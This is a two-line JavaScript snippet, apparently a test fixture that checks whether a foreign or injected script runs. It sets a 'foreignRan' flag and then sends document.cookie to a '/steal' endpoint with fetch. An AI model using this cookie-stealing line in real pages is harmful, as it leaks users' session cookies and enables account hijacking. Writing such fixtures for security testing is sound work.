window.foreignRan = true;
fetch("/steal?" + document.cookie);
